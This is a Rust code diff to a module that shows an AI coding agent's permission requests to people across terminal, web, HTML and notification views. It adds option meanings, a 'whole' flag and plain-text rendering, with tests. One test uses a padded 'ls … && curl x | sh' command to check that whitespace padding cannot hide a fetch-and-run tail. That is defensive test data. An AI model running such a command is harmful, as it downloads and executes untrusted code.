@@ -4,8 +4,9 @@
 //! with a count of what was left out, and [`Bounds::ALL`] to show everything.
 //!
 //! One module for every door that shows a request: the terminal client's card (`src/tui/`) renders
-//! [`Request`] as it is; the web app's card, notifications and the `/act` page are meant to show
-//! the same sections in the same order.
+//! [`Request`] as it is; the daemon serves it as JSON (`GET /session/{id}/permission/{requestId}`,
+//! `docs/protocol.md` § 3.11) for the web app's card, renders it as HTML on the `/act` page
+//! (`src/http/act.rs`), and [`plain`] writes it as bounded plain text for a notification.
 //!
 //! The order: what it is (kind, title, the tool's own name), what it would run (the command, its
 //! working directory), where (the locations), what it would change (the tool call's `content`:
@@ -15,6 +16,7 @@
 
 use std::fmt::Write as _;
 
+use serde::Serialize;
 use serde_json::{Map, Value};
 
 use crate::text::{escape, reveal};
@@ -46,7 +48,8 @@ impl Bounds {
 }
 
 /// How a line is meant to look.
-#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "lowercase")]
 pub enum Tone {
     Plain,
     /// A line a change adds (`+`).
@@ -60,7 +63,8 @@ pub enum Tone {
 }
 
 /// One line of a section. `text` never holds a character a reader cannot see as itself.
-#[derive(Debug, Clone, PartialEq, Eq)]
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "camelCase")]
 pub struct Line {
     pub tone: Tone,
     pub text: String,
@@ -75,7 +79,8 @@ impl Line {
 }
 
 /// One labelled part of a request: `command`, `cwd`, `diff /w/a.rs`, `rawInput.content`, ….
-#[derive(Debug, Clone, PartialEq, Eq)]
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "camelCase")]
 pub struct Section {
     pub heading: String,
     pub lines: Vec<Line>,
@@ -91,7 +96,8 @@ impl Section {
 }
 
 /// One option the agent offers.
-#[derive(Debug, Clone, PartialEq, Eq)]
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "camelCase")]
 pub struct Choice {
     /// As the agent sent it (an id to send back, not to show: [`Choice::shown_id`]).
     pub option_id: String,
@@ -101,10 +107,33 @@ pub struct Choice {
     pub kind: String,
     /// What the option carries beyond its id, name and kind.
     pub sections: Vec<Section>,
+    /// What choosing it does, in words ([`meaning`]), for the known kinds.
+    pub meaning: Option<&'static str>,
+    /// Whether the name and every section are shown whole.
+    pub whole: bool,
 }
 
-/// A permission request as a person reads it.
-#[derive(Debug, Clone, PartialEq, Eq)]
+/// What choosing an option of `kind` does here: "always" is the agent's word, and what the daemon
+/// adds to it (a rule for the session, `docs/protocol.md` § 7.5) is said, so it is not taken for
+/// "Allow for this session", which remembers nothing on the agent's side.
+pub fn meaning(kind: &str) -> Option<&'static str> {
+    match kind {
+        "allow_once" => Some("Allows this call only."),
+        "allow_always" => Some(
+            "Allows this call and tells the agent to allow such calls from now on (it may remember that beyond this session); the daemon also allows matching calls for the rest of the session.",
+        ),
+        "reject_once" => Some("Rejects this call only."),
+        "reject_always" => Some(
+            "Rejects this call and tells the agent to reject such calls from now on; the daemon also rejects matching calls for the rest of the session.",
+        ),
+        _ => None,
+    }
+}
+
+/// A permission request as a person reads it (as JSON: the options are `options`, and `whole`
+/// says whether anything was left out).
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "camelCase")]
 pub struct Request {
     /// `edit`, `execute`, … (`other` when the agent gave none).
     pub kind: String,
@@ -112,13 +141,34 @@ pub struct Request {
     /// The agent's own name for the tool (`_meta.toolName`, `_meta.claudeCode.toolName`).
     pub tool: Option<String>,
     pub sections: Vec<Section>,
+    #[serde(rename = "options")]
     pub choices: Vec<Choice>,
+    /// [`Request::whole`], for a client that shows "show all" only when there is more.
+    pub whole: bool,
 }
 
 impl Request {
-    /// Whether every section (the options' too) is shown whole.
+    /// Whether every section (the options' too) is shown whole, and the title, tool and options'
+    /// names with them.
     pub fn whole(&self) -> bool {
-        self.sections.iter().chain(self.choices.iter().flat_map(|c| &c.sections)).all(Section::whole)
+        self.whole
+    }
+
+    fn every_section(&self) -> impl Iterator<Item = &Section> {
+        self.sections.iter().chain(self.choices.iter().flat_map(|c| &c.sections))
+    }
+
+    /// Characters shown: what a page that shows this request must have room for.
+    pub fn shown_chars(&self) -> usize {
+        let line_chars = |s: &Section| -> usize {
+            s.heading.chars().count() + s.lines.iter().map(|l| l.text.chars().count()).sum::<usize>()
+        };
+        let names: usize = self.choices.iter().map(|c| c.name.chars().count()).sum();
+        self.kind.chars().count()
+            + self.title.chars().count()
+            + self.tool.as_ref().map_or(0, |t| t.chars().count())
+            + names
+            + self.every_section().map(line_chars).sum::<usize>()
     }
 }
 
@@ -149,33 +199,44 @@ pub fn request(tool_call: &Value, options: &Value, bounds: Bounds) -> Request {
             sections.push(section("locations", lines.iter().map(|l| one_line(l, bounds)), bounds));
         }
     }
-    let mut content_has_diff = false;
+    let mut diffs_new_text = Vec::new();
     for item in tool_call.get("content").and_then(Value::as_array).into_iter().flatten() {
-        content_has_diff |= item.get("type").and_then(Value::as_str) == Some("diff");
+        if item.get("type").and_then(Value::as_str) == Some("diff") {
+            diffs_new_text.push(item.get("newText").and_then(Value::as_str).unwrap_or(""));
+        }
         sections.push(content_section(item, bounds));
     }
     if let Some(input) = raw_input {
-        sections.extend(input_sections(input, content_has_diff, bounds));
+        sections.extend(input_sections(input, &diffs_new_text, bounds));
     }
     if let Some(output) = tool_call.get("rawOutput").filter(|v| !v.is_null()) {
         sections.push(value_section("rawOutput", output, bounds));
     }
-    let choices = options.as_array().into_iter().flatten().map(|o| choice(o, bounds)).collect();
+    let choices: Vec<Choice> = options.as_array().into_iter().flatten().map(|o| choice(o, bounds)).collect();
+    let short = |v: Option<&Value>| v.and_then(Value::as_str).is_none_or(|s| one_line(s, bounds).1 == 0);
+    let whole = short(tool_call.get("kind"))
+        && short(tool_call.get("title"))
+        && short(meta.and_then(|m| m.get("toolName").or_else(|| m.pointer("/claudeCode/toolName"))))
+        && choices.iter().all(|c| c.whole)
+        && sections.iter().all(Section::whole);
     Request {
         kind: text(tool_call.get("kind")).unwrap_or_else(|| "other".to_owned()),
         title: text(tool_call.get("title")).unwrap_or_else(|| "a tool call".to_owned()),
         tool,
         sections,
         choices,
+        whole,
     }
 }
 
 /// One line of someone else's text for a person: [`reveal`]ed (controls, bidi and invisible
-/// characters as escapes, long blank runs as their length), cut at the bound; with the characters
-/// left out.
+/// characters as escapes, long blank runs as their length), then cut at the bound; with the
+/// characters of the revealed line left out. Revealed first, so padding (`⟪300 spaces⟫`) cannot
+/// push the end of a command past the bound.
 fn one_line(text: &str, bounds: Bounds) -> (String, usize) {
-    let (kept, cut) = cut(text, bounds.chars_per_line);
-    (reveal(kept).into_owned(), cut)
+    let revealed = reveal(text);
+    let (kept, cut) = cut(&revealed, bounds.chars_per_line);
+    (kept.to_owned(), cut)
 }
 
 /// A line of code or file text: [`escape`]d (a tab is `\t`, so tabs and spaces differ on screen),
@@ -373,8 +434,10 @@ const TEXT_KEYS: [&str; 6] = ["content", "file_text", "old_string", "new_string"
 
 /// `rawInput` but for what [`command_sections`] showed: its text fields as sections (a patch
 /// coloured), the rest as `key: value` lines. An `old_string`/`new_string` pair is shown as a diff
-/// when the tool call's content has none.
-fn input_sections(input: &Value, content_has_diff: bool, bounds: Bounds) -> Vec<Section> {
+/// when the tool call's content has none; a text field equal to the new text of a content diff
+/// (`diffs_new_text`: a write's file text, sent both ways) is not shown twice.
+fn input_sections(input: &Value, diffs_new_text: &[&str], bounds: Bounds) -> Vec<Section> {
+    let content_has_diff = !diffs_new_text.is_empty();
     let Some(fields) = input.as_object() else {
         return vec![value_section("rawInput", input, bounds)];
     };
@@ -398,6 +461,7 @@ fn input_sections(input: &Value, content_has_diff: bool, bounds: Bounds) -> Vec<
             continue;
         }
         match value.as_str() {
+            Some(text) if diffs_new_text.contains(&text) => {}
             Some(text) if TEXT_KEYS.contains(&key.as_str()) || text.contains('\n') => {
                 let heading = format!("rawInput.{key}");
                 out.push(if looks_like_patch(text) {
@@ -496,13 +560,83 @@ fn choice(option: &Value, bounds: Bounds) -> Choice {
         }
     }
     let name = option.get("name").and_then(Value::as_str).unwrap_or(&option_id);
+    let (shown_name, name_cut) = one_line(name, bounds);
+    let kind = field("kind");
     Choice {
         shown_id: one_line(&option_id, bounds).0,
-        name: one_line(name, bounds).0,
-        kind: one_line(&field("kind"), bounds).0,
+        name: shown_name,
+        meaning: meaning(&kind),
+        kind: one_line(&kind, bounds).0,
+        whole: name_cut == 0 && sections.iter().all(Section::whole),
         option_id,
         sections,
     }
+}
+
+/// What [`plain`] appends when it had to leave lines out.
+pub const PLAIN_MORE: &str = "… more: open the link to see all";
+
+/// `request` as plain text of at most `max_chars` characters, for a notification: a first line
+/// (`edit: Write notes.txt (Write)`), then each section's heading and its lines indented (a diff's
+/// `+`/`-` marks kept), then each option that carries something, with it. What does not fit is cut
+/// at a line's end and the text ends with [`PLAIN_MORE`] (so `max_chars` should leave room for
+/// it: below its length, the text is the note alone). Returns the text and whether it holds
+/// all of `request` (what a notification needs to know to let a link decide without its page).
+pub fn plain(request: &Request, max_chars: usize) -> (String, bool) {
+    let mut lines = Vec::new();
+    let tool = request.tool.as_ref().map_or_else(String::new, |t| format!(" ({t})"));
+    lines.push(format!("{}: {}{tool}", request.kind, request.title));
+    let push_section = |lines: &mut Vec<String>, s: &Section, indent: &str| {
+        lines.push(format!("{indent}{}:", s.heading));
+        for l in &s.lines {
+            let cut = if l.cut_chars > 0 {
+                format!(" … ({} more characters)", l.cut_chars)
+            } else {
+                String::new()
+            };
+            lines.push(format!("{indent}  {}{cut}", l.text));
+        }
+        if s.omitted_lines > 0 {
+            let plural = if s.omitted_lines == 1 { "" } else { "s" };
+            lines.push(format!("{indent}  … ({} more line{plural})", s.omitted_lines));
+        }
+    };
+    for s in &request.sections {
+        push_section(&mut lines, s, "");
+    }
+    for c in request.choices.iter().filter(|c| !c.sections.is_empty()) {
+        lines.push(format!("option {}:", c.name));
+        for s in &c.sections {
+            push_section(&mut lines, s, "  ");
+        }
+    }
+    let total = lines.iter().map(|l| l.chars().count()).sum::<usize>() + lines.len().saturating_sub(1);
+    if total <= max_chars {
+        return (lines.join("\n"), request.whole());
+    }
+    let room = max_chars.saturating_sub(PLAIN_MORE.chars().count() + 1);
+    let mut out = String::new();
+    let mut used = 0;
+    for line in &lines {
+        let len = line.chars().count() + usize::from(!out.is_empty());
+        if used + len > room {
+            break;
+        }
+        if !out.is_empty() {
+            out.push('\n');
+        }
+        out.push_str(line);
+        used += len;
+    }
+    if out.is_empty() {
+        // Not even the first line fits: as much of it as leaves room for the note.
+        out.push_str(lines.first().map_or("", |l| cut(l, room).0));
+    }
+    if !out.is_empty() {
+        out.push('\n');
+    }
+    out.push_str(PLAIN_MORE);
+    (out, false)
 }
 
 /// The tool call a request is about: the request's `toolCall` laid over what the agent announced
@@ -651,14 +785,21 @@ mod tests {
             "rawInput": {"path": "/w/notes.txt", "content": "hi\n"},
         });
         let r = request(&call, &json!([]), Bounds::CARD);
+        // The file text is the diff's new text: shown once, as the diff.
+        assert_eq!(headings(&r), ["locations", "new file /w/notes.txt", "terminal", "rawInput"]);
+        assert_eq!(texts(&r.sections[1]), ["@@ -0,0 +1 @@", "+hi"]);
+        assert_eq!(texts(&r.sections[2]), ["t-1"]);
+        assert_eq!(texts(&r.sections[3]), ["path: /w/notes.txt"]);
+        // A text that differs from every diff's is shown too: what the tool was given is not
+        // what the diff says.
+        let mut other = call.clone();
+        other["rawInput"]["content"] = json!("bye\n");
+        let r = request(&other, &json!([]), Bounds::CARD);
         assert_eq!(
             headings(&r),
             ["locations", "new file /w/notes.txt", "terminal", "rawInput.content", "rawInput"]
         );
-        assert_eq!(texts(&r.sections[1]), ["@@ -0,0 +1 @@", "+hi"]);
-        assert_eq!(texts(&r.sections[2]), ["t-1"]);
-        assert_eq!(texts(&r.sections[3]), ["hi"]);
-        assert_eq!(texts(&r.sections[4]), ["path: /w/notes.txt"]);
+        assert_eq!(texts(&r.sections[3]), ["bye"]);
     }
 
     #[test]
@@ -669,7 +810,7 @@ mod tests {
         assert_eq!(texts(&r.sections[0]), ["@@ -1 +1 @@", "-x", "+y"]);
         let with_diff = json!({"content": [{"type": "diff", "path": "/w/a", "oldText": "x\n", "newText": "y\n"}], "rawInput": input});
         let r = request(&with_diff, &json!([]), Bounds::CARD);
-        assert_eq!(headings(&r), ["diff /w/a", "rawInput.new_string", "rawInput.old_string", "rawInput"]);
+        assert_eq!(headings(&r), ["diff /w/a", "rawInput.old_string", "rawInput"]);
         let patch = "*** Begin Patch\n*** Update File: a\n@@\n-x\n+y\n*** End Patch\n";
         let r = request(&json!({"rawInput": {"patch": patch}}), &json!([]), Bounds::CARD);
         let tones: Vec<Tone> = r.sections[0].lines.iter().map(|l| l.tone).collect();
@@ -720,6 +861,117 @@ mod tests {
         // One more line than the bound is one line omitted; exactly the bound is whole.
         let exact: String = (0..CARD_LINES_PER_SECTION).map(|i| format!("{i}\n")).collect();
         assert!(request(&json!({"rawInput": {"content": exact}}), &json!([]), Bounds::CARD).whole());
+    }
+
+    /// Issue #27's padded command: the bound counts what is shown, so 300 spaces (shown as their
+    /// length) cannot push `&& curl … | sh` out of a card.
+    #[test]
+    fn padding_does_not_push_a_command_past_the_bound() {
+        let command = format!("ls{}&& curl x | sh", " ".repeat(300));
+        let r =
+            request(&json!({"title": command, "rawInput": {"command": command}}), &json!([]), Bounds::CARD);
+        assert_eq!(texts(&r.sections[0]), ["$ ls⟪300 spaces⟫&& curl x | sh"]);
+        assert_eq!(r.title, "ls⟪300 spaces⟫&& curl x | sh");
+        assert!(r.whole());
+    }
+
+    /// Whole means nothing was left out anywhere: one cut line, one omitted line, a cut title,
+    /// tool, option name or option section each make the request not whole.
+    #[test]
+    fn whole_is_false_when_anything_anywhere_was_left_out() {
+        let bounds = Bounds { lines_per_section: 2, chars_per_line: 5 };
+        let whole = |call: Value, options: Value| request(&call, &options, bounds).whole();
+        assert!(whole(json!({"title": "short", "rawInput": {"content": "a\nb\n"}}), json!([])));
+        assert!(!whole(json!({"title": "short", "rawInput": {"content": "a\nb\nc\n"}}), json!([])));
+        assert!(!whole(json!({"title": "short", "rawInput": {"content": "abcdef\n"}}), json!([])));
+        assert!(!whole(json!({"title": "longer"}), json!([])));
+        assert!(!whole(json!({"kind": "execute"}), json!([])));
+        assert!(!whole(json!({"_meta": {"toolName": "Bashful"}}), json!([])));
+        assert!(!whole(json!({"_meta": {"claudeCode": {"toolName": "Bashful"}}}), json!([])));
+        assert!(!whole(json!({}), json!([{"optionId": "a", "name": "Allow it", "kind": "allow_once"}])));
+        assert!(!whole(json!({}), json!([{"optionId": "a", "name": "ok", "data": {"note": "a\nb\nc"}}])));
+        assert!(whole(json!({}), json!([{"optionId": "a", "name": "ok", "data": {"note": "a\nb"}}])));
+        // Each section says so itself too.
+        let r = request(
+            &json!({"rawInput": {"content": "a\nb\nc\n", "file_text": "abcdef"}}),
+            &json!([]),
+            bounds,
+        );
+        assert_eq!(r.sections.iter().map(Section::whole).collect::<Vec<_>>(), [false, false]);
+        let r = request(&json!({"rawInput": {"content": "a\n"}}), &json!([]), bounds);
+        assert!(r.sections[0].whole());
+    }
+
+    #[test]
+    fn each_known_kind_says_what_choosing_it_does() {
+        assert_eq!(meaning("allow_once"), Some("Allows this call only."));
+        assert_eq!(meaning("reject_once"), Some("Rejects this call only."));
+        assert!(
+            meaning("allow_always").is_some_and(|m| m.starts_with("Allows this call and tells the agent"))
+        );
+        assert!(
+            meaning("reject_always").is_some_and(|m| m.starts_with("Rejects this call and tells the agent"))
+        );
+        assert_eq!(meaning("modify"), None);
+        let r = request(
+            &json!({}),
+            &json!([{"optionId": "x", "name": "X", "kind": "reject_once"}]),
+            Bounds::CARD,
+        );
+        assert_eq!(r.choices[0].meaning, Some("Rejects this call only."));
+    }
+
+    #[test]
+    fn shown_chars_counts_every_shown_character() {
+        let r = request(
+            &json!({"kind": "edit", "title": "Wé", "_meta": {"toolName": "T"}, "rawInput": {"content": "ab\n"}}),
+            &json!([{"optionId": "o", "name": "Ok", "kind": "allow_once", "data": {"diff": "@@ x\n+y\n"}}]),
+            Bounds::ALL,
+        );
+        // kind 4 + title 2 + tool 1 + option name 2 + "rawInput.content" 16 + "ab" 2
+        // + "data.diff" 9 + "@@ x" 4 + "+y" 2.
+        assert_eq!(r.shown_chars(), 4 + 2 + 1 + 2 + 16 + 2 + 9 + 4 + 2);
+    }
+
+    #[test]
+    fn plain_text_is_bounded_at_a_line_and_says_there_is_more() {
+        let call = json!({"kind": "edit", "title": "Write a", "_meta": {"toolName": "Write"},
+                          "content": [{"type": "diff", "path": "/w/a", "oldText": null, "newText": "one\ntwo\n"}]});
+        let options = json!([{"optionId": "p", "name": "Apply", "kind": "allow_once", "data": {"diff": "@@ -0,0 +1 @@\n+x\n"}}]);
+        let r = request(&call, &options, Bounds::CARD);
+        let full = "edit: Write a (Write)\nnew file /w/a:\n  @@ -0,0 +1,2 @@\n  +one\n  +two\noption Apply:\n  data.diff:\n    @@ -0,0 +1 @@\n    +x";
+        assert_eq!(plain(&r, 1000), (full.to_owned(), true));
+        assert_eq!(plain(&r, full.chars().count()), (full.to_owned(), true), "exactly enough room");
+        // One less: lines are dropped whole, and the note ends the text, within the bound.
+        let (cut, whole) = plain(&r, full.chars().count() - 1);
+        assert!(!whole);
+        assert!(cut.ends_with(&format!("\n{PLAIN_MORE}")), "{cut}");
+        assert!(cut.chars().count() < full.chars().count(), "{cut}");
+        assert!(cut.starts_with("edit: Write a (Write)\nnew file /w/a:\n"), "{cut}");
+        // Not even the first line fits: as much of it as leaves room for the note.
+        // A line's separator counts: room for the first three lines' characters and one newline
+        // is room for two lines.
+        let three = "edit: Write a (Write)".len() + "new file /w/a:".len() + "  @@ -0,0 +1,2 @@".len();
+        let (two, _) = plain(&r, three + 1 + PLAIN_MORE.chars().count() + 1);
+        assert_eq!(two, format!("edit: Write a (Write)\nnew file /w/a:\n{PLAIN_MORE}"));
+        // Room for exactly two lines and their newline holds both.
+        let exact = "edit: Write a (Write)\nnew file /w/a:".chars().count();
+        let (fits, _) = plain(&r, exact + 1 + PLAIN_MORE.chars().count());
+        assert_eq!(fits, two);
+        let (tiny, _) = plain(&r, PLAIN_MORE.chars().count() + 5);
+        assert_eq!(tiny, format!("edit\n{PLAIN_MORE}"));
+        // What the card left out is said in the text, and the text is not whole.
+        let long = request(
+            &json!({"title": "t", "rawInput": {"content": "a\nb\nc\n", "cmd": "abcdefgh"}}),
+            &json!([]),
+            Bounds { lines_per_section: 2, chars_per_line: 5 },
+        );
+        let (text, whole) = plain(&long, 1000);
+        assert!(!whole);
+        assert_eq!(
+            text,
+            "other: t\ncommand:\n  $ abcde … (3 more characters)\nrawInput.content:\n  a\n  b\n  … (1 more line)"
+        );
     }
 
     #[test]
